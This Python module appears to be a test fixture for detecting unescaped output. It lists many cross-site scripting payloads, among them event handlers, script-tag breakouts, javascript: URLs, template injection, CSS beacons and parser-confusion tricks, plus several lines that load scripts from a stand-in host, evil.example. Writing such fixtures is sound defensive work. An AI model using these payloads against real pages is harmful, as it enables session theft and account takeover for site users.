"""Texts that would run a script where a page forgets to escape them (fault W1).

RUN stands for a call of the canary with the payload's number, HIT for an address nobody asks for
otherwise. A payload of `RAW` runs by itself in a page that pastes it between its tags; the others
want an attribute, a script, a style, a template or a click around them, or a parser that mends what
it reads.
"""

EVENTS = """
<img src=x onerror=RUN>|<img src=x onerror="RUN">|<img src='x' onerror='RUN'>|<img/src=x/onerror=RUN>
<IMG SRC=x OnErRoR=RUN>|<img src=x onerror=RUN//|<img src onerror=RUN>|<img srcset=x onerror=RUN>
<img src=x:x onerror=RUN>|<img src=x onerror␉=␉RUN>|<img src=x onerror␊=␊RUN>|<img src=x␌onerror=RUN>
<img src=x onerror=&#95;&#95;ran(NUMBER)>|<img src=x onerror=&#x5f;&#x5F;ran&lpar;NUMBER&rpar;>
<img src=x onerror=\\u005f\\u005fran(NUMBER)>|<img src=x onerror=window['__ran'](NUMBER)>
<img src=x onerror=top['__r'+'an'](NUMBER)>|<img src=x onerror=self?.__ran?.(NUMBER)>
<img src=x onerror="[NUMBER].map(__ran)">|<img src=x onerror="throw/**/onerror=()=>RUN,1">
<img src=x onerror="new Function`RUN```">|<img src=x onerror="setTimeout`RUN`">|<img src=x onerror="eval('RU'+'N')">
<img src=x onerror=alert(NUMBER)>|<img src=x onerror=confirm(NUMBER)>|<img src=x onerror=prompt`NUMBER`>
<img src=x onerror=fetch('HIT')>|<img src=x onerror=import('HIT')>|<img src=x onerror=navigator.sendBeacon('HIT')>
<img src=x onerror="location='javascript:RUN'">|<img src=x onerror="document.body.append(RUN)">
<svg onload=RUN>|<svg/onload=RUN>|<svg␊onload=RUN>|<SVG ONLOAD=RUN>|<svg onload=RUN//|<svg id=x onload=RUN></svg>
<svg><svg onload=RUN>|<svg><g onload=RUN></g></svg>|<svg><script>RUN</script></svg>
<svg><script>&#95;&#95;ran(NUMBER)</script></svg>
<svg><script href="data:text/javascript,RUN"></script></svg>|<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>|<svg><animateTransform onbegin=RUN attributeName=transform>
<svg><image href=x onerror=RUN>|<svg><style onload=RUN></style></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<body onload=RUN>|<body onpageshow=RUN>|<style onload=RUN></style>|<link rel=stylesheet href=x onerror=RUN>
<script src=x onerror=RUN></script>|<iframe onload=RUN></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src="javascript:parent.RUN"></iframe>|<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<object data=x onerror=RUN></object>|<object data="data:text/html,<script>parent.RUN</script>"></object>
<embed src="javascript:RUN">
<video src=x onerror=RUN></video>|<video><source onerror=RUN></video>|<audio src=x onerror=RUN></audio>
<video autoplay onloadstart=RUN src=x></video>|<audio onloadstart=RUN src=x></audio>|<track onerror=RUN>
<input autofocus onfocus=RUN>|<textarea autofocus onfocus=RUN></textarea>|<select autofocus onfocus=RUN></select>
<button autofocus onfocus=RUN>|<a autofocus tabindex=0 onfocus=RUN>|<div contenteditable autofocus onfocus=RUN>
<details open ontoggle=RUN>|<details/open/ontoggle="RUN"><summary>|<marquee onstart=RUN>|<dialog open oncancel=RUN>
<input type=image src=x onerror=RUN>|<x style="animation:a 1s" onanimationstart=RUN>
<picture><source srcset=x><img onerror=RUN src=x></picture>
"""
SCRIPTS = """
<script>RUN</script>|<SCRIPT>RUN</SCRIPT>|<ScRiPt >RUN</sCrIpT >|<script␊>RUN</script␊>|<script/x>RUN</script/x>
<script x=">">RUN</script>|<script type=module>RUN</script>|<script type="text/javascript">RUN;</script>
<script>`${RUN}`</script>|<script>\\u005f\\u005fran(NUMBER)</script>|<script>window[`__ran`](NUMBER)</script>
<script><!--␊RUN␊--></script>|<script>//<![CDATA[␊RUN␊//]]></script>|<script async>RUN</script>
<script src="data:text/javascript,RUN"></script>|<script src=HIT></script>|<script src=//evil.example/HIT></script>
<script nonce>RUN</script>|<script nonce="">RUN</script>|<script nonce=undefined>RUN</script>|<script defer>RUN
<script>RUN|<script>RUN</script|<<script>RUN//<</script>|<scr<script>ipt>RUN</scr</script>ipt>
</p><script>RUN</script><p>
</textarea><script>RUN</script>|</title><script>RUN</script>|</script><script>RUN</script>
</style><script>RUN</script>
</option></select><script>RUN</script>|</noscript><script>RUN</script>|--><script>RUN</script><!--
]]><script>RUN</script>
</template><script>RUN</script>|</svg><script>RUN</script>|</svg></math><script>RUN</script>
</head><body><script>RUN</script>
"""
ATTRIBUTES = """
" onmouseover="RUN|' onmouseover='RUN| onmouseover=RUN |" autofocus onfocus="RUN|' autofocus onfocus='RUN
"><script>RUN</script>|'><script>RUN</script>|"><svg onload=RUN>|'><svg onload=RUN>|`><svg onload=RUN>
x" onerror="RUN" src="x|x' onerror='RUN' src='x|" style="animation:x" onanimationstart="RUN|" accesskey=x onclick="RUN
" hx-on:load="RUN|" hx-on::after-process-node="RUN|" hx-trigger="load" hx-get="HIT
" hx-vals="js:{a:RUN}" hx-get="HIT" hx-trigger="load
" x-data x-init="RUN|" x-data="RUN|" @click="RUN" x-bind:x="RUN|" x-html="'<img src=x onerror=RUN>'|" :class="RUN
" href="javascript:RUN|" formaction="javascript:RUN|" srcdoc="<script>RUN</script>|" data-url="javascript:RUN
" target="_blank" ping="HIT
"""
ADDRESSES = """
javascript:RUN|JaVaScRiPt:RUN| javascript:RUN|java␉script:RUN|java␊script:RUN|javascript&colon;RUN|javascript&#58;RUN
␁javascript:RUN|javascript://%0aRUN|javascript:/*--></title></style></textarea></script><svg onload=RUN>
data:text/html,<script>RUN</script>|data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=|vbscript:RUN|//evil.example/HIT
<a href="javascript:RUN">x</a>|<a href="&#106;avascript:RUN">x</a>
<form action="javascript:RUN"><button>x</button></form>
<button form=x formaction="javascript:RUN">x</button>|<area href="javascript:RUN">
<math href="javascript:RUN">x</math>
<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>|<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href="//evil.example/HIT">|<iframe src="data:text/html,<script>RUN</script>"></iframe>
<link rel=import href=HIT>
"""
INSIDE = """
';RUN;//|";RUN;//|`;RUN;//|\\';RUN;//|\\";RUN;//|${RUN}|`${RUN}`|'-RUN-'|"-RUN-"|');RUN;//|");RUN;//|}];RUN;//
"}</script><script>RUN</script>|\\u003cscript\\u003eRUN\\u003c/script\\u003e|\\x3cscript\\x3eRUN\\x3c/script\\x3e
&lt;script&gt;RUN&lt;/script&gt;|&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;|%3Cscript%3ERUN%3C/script%3E
\u2028RUN\u2028
{{ RUN }}|{{constructor.constructor('RUN')()}}|{% debug %}|{% autoescape off %}<svg onload=RUN>|<%= RUN %>|#{RUN}
</style><style>*{background:url(HIT)}</style>|<style>@import 'HIT';</style>|<style>*{background:url("HIT")}</style>
color:red;background:url(HIT)|expression(RUN)|<p style="background:url(HIT)">x|<link rel=stylesheet href=HIT>
<img src=HIT>
<noscript><p title="</noscript><img src=x onerror=RUN>">|<math><mtext><table><mglyph><style><img src=x onerror=RUN>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<table><tr><svg><desc><td><style><img title="</style><img src=x onerror=RUN>">
<select><template><img src=x onerror=RUN></template></select>
<xmp><p title="</xmp><img src=x onerror=RUN>">|<textarea><p title="</textarea><img src=x onerror=RUN>">
<plaintext><img src=x onerror=RUN>
＜script＞RUN＜/script＞|<ſcript>RUN</ſcript>|<img src=x onerror=RUN \u202e>|<\u200bscript>RUN</script>
+ADw-script+AD4-RUN+ADw-/script+AD4-
<!--><img src=x onerror=RUN>-->|<!-- --!><img src=x onerror=RUN>|<![CDATA[><img src=x onerror=RUN>]]>
<?x ><img src=x onerror=RUN>?>
"""


PICTURES = {0x2409: "\t", 0x240A: "\n", 0x240C: "\f", 0x2401: "\x01"}


def _split(text: str) -> list[str]:
    return [one for line in text.strip("\n").split("\n") for one in _pieces(line)]


def _pieces(line: str) -> list[str]:
    """Parted by bars; in the lists a control character is written as its picture, so that a line is
    a line.
    """
    return [one.translate(PICTURES) for one in line.split("|") if one]


def numbered(kinds: list[str], first: int = 1) -> list[str]:
    made = []
    for number, one in enumerate(kinds, first):
        made.append(
            one.replace("RUN", f"__ran({number})")
            .replace("HIT", f"/canary/{number}")
            .replace("NUMBER", str(number))
        )
    return made


RAW = numbered([*_split(EVENTS), *_split(SCRIPTS)])
PAYLOADS = [
    *RAW,
    *numbered([*_split(ATTRIBUTES), *_split(ADDRESSES), *_split(INSIDE)], len(RAW) + 1),
]
